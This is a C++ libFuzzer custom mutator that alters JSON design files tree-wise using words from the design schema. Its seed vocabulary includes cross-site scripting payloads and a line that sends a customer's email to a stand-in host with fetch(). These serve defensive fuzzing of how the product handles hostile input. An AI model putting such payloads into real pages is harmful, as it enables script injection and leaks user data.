// The design fuzzer's mutator. Byte mutations of a JSON design mostly break its syntax or
// its schema, so the loader refuses it before the review and the writers see it. Most of
// the time this one parses the input, changes one thing in the tree (a value, a key, an
// item, a whole subtree) with the words of the design schema and writes it back: the result
// is still JSON and mostly still a design. The rest of the time, and for input that is no
// JSON, libFuzzer's own byte mutations run (with the dictionary), so the syntax layer stays
// fuzzed too.
#include "LoadedDesigns.h"

#include "io/SchemaValidator.h"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <random>
#include <set>
#include <string>
#include <string_view>
#include <unordered_set>
#include <vector>

extern "C" size_t LLVMFuzzerMutate(uint8_t *data, size_t size, size_t maxSize);

namespace {

using json = nlohmann::json;

// Nodes deeper than this are dropped when parsing: the tree is walked and copied recursively.
constexpr int kMaxDepth = 40;
constexpr size_t kMaxNodes = 20000;

// Keys and values a design can hold, taken from the schema so they follow it.
struct Vocabulary
{
    std::vector<std::string> keys;
    std::vector<json> values;
};

void collectWords(const json &schema, std::set<std::string> &keys, std::vector<json> &values)
{
    if (schema.is_object()) {
        if (schema.contains("properties") && schema.at("properties").is_object())
            for (const auto &member : schema.at("properties").items())
                keys.insert(member.key());
        if (schema.contains("enum") && schema.at("enum").is_array())
            for (const auto &value : schema.at("enum"))
                values.push_back(value);
        if (schema.contains("const"))
            values.push_back(schema.at("const"));
    }
    if (schema.is_structured())
        for (const auto &child : schema)
            collectWords(child, keys, values);
}

const Vocabulary &vocabulary()
{
    static const Vocabulary words = [] {
        std::set<std::string> keys;
        Vocabulary v;
        collectWords(callstudio::designSchema(), keys, v.values);
        v.keys.assign(keys.begin(), keys.end());
        // Boundaries and the strings the review and the writers treat specially.
        for (const char *text : {"0",
                                 "-1",
                                 "1",
                                 "3",
                                 "240",
                                 "640",
                                 "2147483648",
                                 "9223372036854775807",
                                 "-9223372036854775808",
                                 "18446744073709551615",
                                 "1e308",
                                 "0.5",
                                 "true",
                                 "false",
                                 "null",
                                 "{}",
                                 "[]",
                                 "\"\"",
                                 "\"en\"",
                                 "\"pt-BR\"",
                                 "\"09:00\"",
                                 "\"24:00\"",
                                 "\"2026-02-29\"",
                                 "\"#1a73e8\"",
                                 "\"#fff\"",
                                 "\"https://example.com/a?b=c\"",
                                 "\"tel:+15551234567\"",
                                 "\"javascript:alert(1)\"",
                                 "\"data:text/html,x\"",
                                 "\"</script><!--\"",
                                 "\"<script src=https://cdn.example/x.js></script>\"",
                                 "\"<img src=x onerror=alert(1)>\"",
                                 "\"c2c.on('call_ended', function (e) { fetch('https://t.example/?' + e.email); });\"",
                                 "\"{{customer.email}}\"",
                                 "\"G-XXXXXXX\"",
                                 "\"\\u2028\\u0000\\u001b[31m\"",
                                 "\"Europe/Berlin\""})
            v.values.push_back(json::parse(text));
        return v;
    }();
    return words;
}

struct Node
{
    json *value = nullptr;
    json *parent = nullptr;
    std::string key;                 // in an object parent
    size_t index = 0;                // in an array parent
    std::vector<std::string> tokens; // its JSON pointer, for its schema node
};

std::vector<Node> collectNodes(json &root)
{
    std::vector<Node> nodes{{&root, nullptr, {}, 0, {}}};
    for (size_t i = 0; i < nodes.size() && nodes.size() < kMaxNodes; ++i) {
        json *value = nodes[i].value;
        auto tokens = nodes[i].tokens;
        tokens.emplace_back();
        if (value->is_object())
            for (auto it = value->begin(); it != value->end(); ++it) {
                tokens.back() = it.key();
                nodes.push_back({&it.value(), value, it.key(), 0, tokens});
            }
        else if (value->is_array())
            for (size_t k = 0; k < value->size(); ++k) {
                tokens.back() = std::to_string(k);
                nodes.push_back({&(*value)[k], value, {}, k, tokens});
            }
    }
    return nodes;
}

// The schema node's single type, or "" (none, or a list of types).
std::string typeOf(const json &schema)
{
    const auto type = schema.find("type");
    return type != schema.end() && type->is_string() ? type->get<std::string>() : std::string();
}

// Integers a schema node allows, with its bounds (and, rarely, just past them).
std::vector<std::int64_t> integersFor(const json &schema)
{
    const std::int64_t low = schema.value("minimum", std::int64_t(0));
    const std::int64_t high = schema.value("maximum", low + 1000);
    return {low, high, low + 1, high - 1, low + (high - low) / 2, low - 1, high + 1};
}

// A small value that the schema accepts at `tokens` where it can tell: what a new member gets.
json valueAt(std::vector<std::string> &tokens, int depth = 0)
{
    const json *schema = callstudio::designSchemaNodeFor(tokens);
    if (!schema)
        return "x";
    if (schema->contains("const"))
        return schema->at("const");
    if (schema->contains("enum") && !schema->at("enum").empty())
        return schema->at("enum").front();
    const std::string type = typeOf(*schema);
    if (type == "integer" || type == "number")
        return integersFor(*schema).front();
    if (type == "boolean")
        return false;
    if (type == "array")
        return json::array();
    if (type != "object")
        return "x";
    json object = json::object();
    if (depth < 4 && schema->contains("required"))
        for (const auto &key : schema->at("required")) {
            tokens.push_back(key.get<std::string>());
            object[tokens.back()] = valueAt(tokens, depth + 1);
            tokens.pop_back();
        }
    return object;
}

class Mutation
{
public:
    Mutation(json &root, unsigned seed)
        : m_nodes(collectNodes(root))
        , m_random(seed)
    {
    }

    // Changes that keep the design valid against the schema where the schema can tell,
    // most of the time; the wild ones (below) break it on purpose.
    void apply()
    {
        Node &node = pick(m_nodes);
        if (below(6) == 0)
            applyWild(node);
        else if (const json *schema = callstudio::designSchemaNodeFor(node.tokens))
            applyFitting(node, *schema);
        else
            mutateScalar(*node.value);
    }

private:
    void applyFitting(Node &node, const json &schema)
    {
        switch (below(4)) {
        case 0:
            insertCopy(node);
            break;
        case 1:
            addFittingMember(node, schema);
            break;
        case 2:
            if (node.parent && node.parent->is_object()) {
                const json *parentSchema = callstudio::designSchemaNodeFor(
                    std::vector<std::string>(node.tokens.begin(), node.tokens.end() - 1));
                const json required = parentSchema ? parentSchema->value("required", json::array()) : json::array();
                if (std::find(required.begin(), required.end(), node.key) == required.end())
                    erase(node);
            }
            break;
        default:
            fitValue(*node.value, schema);
            break;
        }
    }

    // A new value of the kind the schema asks for here.
    void fitValue(json &value, const json &schema)
    {
        if (schema.contains("enum") && !schema.at("enum").empty())
            value = schema.at("enum")[below(schema.at("enum").size())];
        else if (value.is_number_integer() || typeOf(schema) == "integer")
            value = pick(integersFor(schema));
        else if (value.is_string() && schema.contains("pattern"))
            value = sameKindValue(schema, value);
        else
            mutateScalar(value);
        if (value.is_string() && schema.contains("maxLength"))
            value = value.get<std::string>().substr(0, schema.at("maxLength").get<size_t>());
    }

    // Ids and codes follow patterns no mutation keeps to: another value of the same schema
    // node (a block id for a block id, a locale for a locale), from a few nodes tried.
    json sameKindValue(const json &schema, const json &fallback)
    {
        for (int tries = 0; tries < 32; ++tries) {
            const Node &other = pick(m_nodes);
            if (callstudio::designSchemaNodeFor(other.tokens) == &schema)
                return *other.value;
        }
        return fallback;
    }

    // One of the properties the schema allows here and the object lacks.
    void addFittingMember(Node &node, const json &schema)
    {
        if (!node.value->is_object() || !schema.contains("properties"))
            return insertCopy(node);
        std::vector<std::string> missing;
        for (const auto &property : schema.at("properties").items())
            if (!node.value->contains(property.key()))
                missing.push_back(property.key());
        if (missing.empty())
            return;
        const std::string &key = pick(missing);
        auto tokens = node.tokens;
        tokens.push_back(key);
        (*node.value)[key] = valueAt(tokens);
    }

    void applyWild(Node &node)
    {
        switch (below(8)) {
        case 0:
            *node.value = pick(vocabulary().values);
            break;
        case 1:
            mutateScalar(*node.value);
            break;
        case 2:
            erase(node);
            break;
        case 3:
            splice(node);
            break;
        case 4:
            insertCopy(node);
            break;
        case 5:
            renameKey(node);
            break;
        case 6:
            addMember(node);
            break;
        default:
            mutateScalar(*pick(m_nodes).value);
            break;
        }
    }

    size_t below(size_t n) { return std::uniform_int_distribution<size_t>(0, n - 1)(m_random); }

    template <typename T> T &pick(std::vector<T> &from) { return from[below(from.size())]; }
    template <typename T> const T &pick(const std::vector<T> &from) { return from[below(from.size())]; }

    void mutateScalar(json &value)
    {
        if (value.is_string()) {
            std::string text = value.get<std::string>();
            const size_t room = text.size() * 2 + 16;
            text.resize(room);
            text.resize(
                LLVMFuzzerMutate(reinterpret_cast<uint8_t *>(text.data()), value.get<std::string>().size(), room));
            value = text;
        } else if (value.is_number_integer()) {
            // Unsigned arithmetic: wrapping around is the point, and no undefined behaviour.
            const auto n = static_cast<std::uint64_t>(value.get<std::int64_t>());
            const std::uint64_t changed[] = {n + 1, n - 1, 0 - n, n >> 1, n * 2 + 1};
            value = static_cast<std::int64_t>(changed[below(5)]);
        } else if (value.is_number_float()) {
            value = value.get<double>() * (below(2) ? -1.5 : 1e10);
        } else if (value.is_boolean()) {
            value = !value.get<bool>();
        } else {
            value = pick(vocabulary().values);
        }
    }

    // Another subtree of the document in place of this one.
    void splice(const Node &node)
    {
        json copy = *pick(m_nodes).value;
        *node.value = std::move(copy);
    }

    void erase(const Node &node)
    {
        if (node.parent && node.parent->is_object())
            node.parent->erase(node.key);
        else if (node.parent && node.parent->is_array())
            node.parent->erase(node.index);
    }

    // Another item like this one (a second block, field, locale): lists grow and repeat.
    void insertCopy(const Node &node)
    {
        if (node.parent && node.parent->is_array()) {
            json copy = *node.value;
            node.parent->insert(node.parent->begin() + static_cast<long>(below(node.parent->size() + 1)),
                                std::move(copy));
        } else if (node.value->is_array() && !node.value->empty()) {
            json copy = (*node.value)[below(node.value->size())];
            node.value->push_back(std::move(copy));
        }
    }

    void renameKey(const Node &node)
    {
        if (!node.parent || !node.parent->is_object())
            return;
        json moved = std::move(*node.value);
        node.parent->erase(node.key);
        (*node.parent)[pick(vocabulary().keys)] = std::move(moved);
    }

    void addMember(const Node &node)
    {
        if (node.value->is_object()) {
            json member = below(2) ? pick(vocabulary().values) : json(*pick(m_nodes).value);
            (*node.value)[pick(vocabulary().keys)] = std::move(member);
        } else if (node.value->is_array())
            node.value->push_back(pick(vocabulary().values));
    }

    std::vector<Node> m_nodes;
    std::mt19937 m_random;
};

// The input as a tree, nodes past kMaxDepth dropped; discarded when it is no JSON.
json parseShallow(const uint8_t *data, size_t size)
{
    const json::parser_callback_t shallow = [](int depth, json::parse_event_t, json &) { return depth <= kMaxDepth; };
    return json::parse(data, data + size, shallow, false);
}

} // namespace

namespace fuzzing {

namespace {

// Bounded: a long run must not grow without end.
constexpr size_t kMaxRemembered = 256;
constexpr size_t kMaxHashes = 1 << 20;

struct Remembered
{
    std::vector<std::string> designs;
    std::unordered_set<size_t> hashes;
};

Remembered &remembered()
{
    static Remembered r;
    return r;
}

} // namespace

void rememberLoaded(std::string_view text)
{
    Remembered &r = remembered();
    if (r.hashes.size() < kMaxHashes)
        r.hashes.insert(std::hash<std::string_view>{}(text));
    if (r.designs.size() < kMaxRemembered)
        r.designs.emplace_back(text);
    else
        r.designs[r.hashes.size() % kMaxRemembered] = std::string(text);
}

bool wasLoaded(std::string_view text)
{
    return remembered().hashes.count(std::hash<std::string_view>{}(text)) > 0;
}

const std::string *loadedDesign(unsigned seed)
{
    const auto &designs = remembered().designs;
    return designs.empty() ? nullptr : &designs[seed % designs.size()];
}

} // namespace fuzzing

extern "C" size_t LLVMFuzzerCustomMutator(uint8_t *data, size_t size, size_t maxSize, unsigned int seed)
{
    // One in five mutations works on bytes: JSON syntax, encodings and the file layer.
    // CALLSTUDIO_FUZZ_BYTES_ONLY=1 makes all of them byte mutations, to compare the two.
    static const bool bytesOnly = std::getenv("CALLSTUDIO_FUZZ_BYTES_ONLY") != nullptr;
    if (bytesOnly || seed % 5 == 0)
        return LLVMFuzzerMutate(data, size, maxSize);
    // Three times in four, an input that did not load is set aside for one that did.
    const std::string *base = nullptr;
    if (seed % 4 != 0 && !fuzzing::wasLoaded({reinterpret_cast<const char *>(data), size}))
        base = fuzzing::loadedDesign(seed / 4);
    json root =
        base ? parseShallow(reinterpret_cast<const uint8_t *>(base->data()), base->size()) : parseShallow(data, size);
    if (root.is_discarded())
        return LLVMFuzzerMutate(data, size, maxSize);
    // Each step walks the tree afresh: the one before may have moved or dropped nodes.
    try {
        for (unsigned step = 0; step <= seed % 2; ++step)
            Mutation(root, seed + step).apply();
    } catch (const json::exception &) {
        // A tree the steps could not handle (a value of an unexpected type): mutate bytes.
        return LLVMFuzzerMutate(data, size, maxSize);
    }
    const std::string text = root.dump(seed % 2 ? 2 : -1, ' ', false, json::error_handler_t::replace);
    if (text.size() > maxSize)
        return LLVMFuzzerMutate(data, size, maxSize);
    std::memcpy(data, text.data(), text.size());
    return text.size();
}
